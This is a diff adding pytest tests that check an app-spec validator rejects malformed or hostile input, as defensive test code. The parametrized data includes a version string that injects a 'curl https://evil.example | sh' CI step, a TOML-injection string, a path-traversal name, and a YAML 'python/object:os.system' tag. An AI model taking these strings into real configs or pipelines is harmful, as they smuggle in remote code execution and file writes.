@@ -146,3 +146,161 @@ def test_removing_a_feature_another_one_references_is_refused() -> None:
         appspec.without_feature(appspec.load(EXAMPLE), "catalog")
     assert info.value.message.startswith("app spec without the slice is invalid")
     assert any("references missing entity 'product'" in d for d in info.value.details)
+
+
+# Values that reach non-Python files are checked by their format (issue 15, item 6).
+
+
+def _field_problem(field: dict) -> list[str]:
+    data = _example()
+    data["features"][0]["entities"][0]["fields"].append(field)
+    with pytest.raises(InvalidInput) as info:
+        appspec.parse(data)
+    assert "\n" not in info.value.one_line()
+    return info.value.details
+
+
+def _stack_problems(key: str, value: object) -> list[str]:
+    data = _example()
+    data["stack"][key] = value
+    with pytest.raises(InvalidInput) as info:
+        appspec.parse(data)
+    assert "\n" not in info.value.one_line()
+    return info.value.details
+
+
+@pytest.mark.parametrize(
+    "version",
+    ["3.11\n      - run: curl https://evil.example | sh", '3.11"\n[tool.evil]\nx = "1',
+     "3.10", "2.7", "3", "3.11.4", "latest", " 3.12", "3.12 ", "", 3.12, 3],
+)
+def test_the_python_version_must_look_like_one(version: object) -> None:
+    assert _stack_problems("python", version)[0].startswith("stack.python: ")
+
+
+@pytest.mark.parametrize("version", ["3.11", "3.12", "3.13", "3.20"])
+def test_python_versions_3_11_and_newer_pass(version: str) -> None:
+    data = _example()
+    data["stack"]["python"] = version
+    assert appspec.parse(data).stack.python == version
+
+
+@pytest.mark.parametrize("name", ["../../../tmp/evil", "fast api", "FastAPI", "a/b", ""])
+def test_the_stack_name_is_a_name(name: str) -> None:
+    assert _stack_problems("name", name)[0].startswith("stack.name: ")
+
+
+@pytest.mark.parametrize("text", ["a\x00b", "bell\x07", "del\x7f", "c1\x85", "lone \udcff"])
+@pytest.mark.parametrize("where", ["title", "description", "feature title", "field description",
+                                   "endpoint summary", "requirement"])
+def test_text_with_control_characters_is_refused(text: str, where: str) -> None:
+    data = _example()
+    feature = data["features"][0]
+    target = {
+        "title": (data, "title"),
+        "description": (data, "description"),
+        "feature title": (feature, "title"),
+        "field description": (feature["entities"][0]["fields"][0], "description"),
+        "endpoint summary": (feature["endpoints"][0], "summary"),
+    }
+    if where == "requirement":
+        feature["requirements"].append(text)
+    else:
+        holder, key = target[where]
+        holder[key] = text
+    with pytest.raises(InvalidInput) as info:
+        appspec.parse(data)
+    assert "control character" in info.value.one_line() or "surrogate" in info.value.one_line()
+
+
+def test_text_keeps_newlines_tabs_and_any_language() -> None:
+    data = _example()
+    data["description"] = "Line one\nLine two\twith a tab — ünïcødé 漢字 🎉"
+    assert appspec.parse(data).description == data["description"]
+
+
+def test_event_consumers_are_slice_names() -> None:
+    data = _example()
+    data["features"][0]["events"] = [{"name": "sold", "consumers": ["orders", "../x"]}]
+    with pytest.raises(InvalidInput) as info:
+        appspec.parse(data)
+    assert info.value.details[0].startswith("features[0].events[0].consumers[1]: ")
+
+
+# Numbers, paths and files the generator could not turn into an app (issue 15, item 9).
+
+
+@pytest.mark.parametrize("kind", ["int", "float"])
+@pytest.mark.parametrize("bound", ["min", "max"])
+@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf"), 1e300, -1e16,
+                                   10**400])
+def test_min_and_max_are_finite_and_bounded(kind: str, bound: str, value: float) -> None:
+    details = _field_problem({"name": "amount", "type": kind, bound: value})
+    assert details[0].startswith(f"features[0].entities[0].fields[2].{bound}: ")
+
+
+def test_an_int_field_needs_a_whole_number_between_min_and_max() -> None:
+    details = _field_problem({"name": "amount", "type": "int", "min": 0.2, "max": 0.8})
+    assert "no whole number between min 0.2 and max 0.8" in details[0]
+
+
+@pytest.mark.parametrize("value", [float("nan"), float("inf"), 1e300, 0, 100_001])
+def test_max_length_is_a_sensible_whole_number(value: float) -> None:
+    details = _field_problem({"name": "code", "type": "str", "max_length": value})
+    assert details[0].startswith("features[0].entities[0].fields[2].max_length: ")
+
+
+@pytest.mark.parametrize("path", ["//", "/products//", "//products", "/a//b", "/{", "/{}",
+                                  "/x{id}", "/{id", "/ products", "products", "/a/{1x}"])
+def test_endpoint_paths_are_routes(path: str) -> None:
+    data = _example()
+    data["features"][0]["endpoints"][0]["path"] = path
+    with pytest.raises(InvalidInput) as info:
+        appspec.parse(data)
+    assert info.value.details[0].startswith("features[0].endpoints[0].path: ")
+
+
+@pytest.mark.parametrize("path", ["/", "/products", "/products/", "/products/{id}",
+                                  "/shop-items/{itemId}/notes"])
+def test_good_endpoint_paths_pass(path: str) -> None:
+    data = _example()
+    data["features"][0]["endpoints"][0]["path"] = path
+    appspec.parse(data)
+
+
+@pytest.mark.parametrize(
+    ("content", "fragment"),
+    [
+        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "not UTF-8"),
+        ("name: caf\xe9\n".encode("latin-1"), "not UTF-8"),
+        (b"\xff\xfe" + "name: shop\n".encode("utf-16-le"), "not UTF-8"),
+        (b"name: shop\x00\n", "not valid YAML"),
+        (b"[" * 100_000, "not valid YAML"),
+        (b"a: &a [1]\nb: *a\n", "is invalid"),
+        (b"!!python/object:os.system {}", "not valid YAML"),
+    ],
+    ids=["binary", "latin-1", "utf-16", "nul", "deep nesting", "alias", "python tag"],
+)
+def test_unreadable_spec_files_are_one_line_errors(tmp_path: Path, content: bytes,
+                                                    fragment: str) -> None:
+    spec = tmp_path / "appspec.yaml"
+    spec.write_bytes(content)
+    with pytest.raises(InvalidInput) as info:
+        appspec.load(spec)
+    assert fragment in info.value.one_line()
+    assert "\n" not in info.value.one_line()
+
+
+def test_a_spec_that_is_a_folder_a_fifo_or_too_big_is_refused(tmp_path: Path) -> None:
+    import os
+
+    folder = tmp_path / "folder.yaml"
+    folder.mkdir()
+    fifo = tmp_path / "fifo.yaml"
+    os.mkfifo(fifo)  # opening it for reading would block forever
+    big = tmp_path / "big.yaml"
+    big.write_bytes(b"# " + b"x" * appspec.MAX_SPEC_BYTES + b"\n")
+    for path, fragment in ((folder, "not a regular file"), (fifo, "not a regular file"),
+                           (big, "larger than")):
+        with pytest.raises(InvalidInput, match=fragment):
+            appspec.load(path)
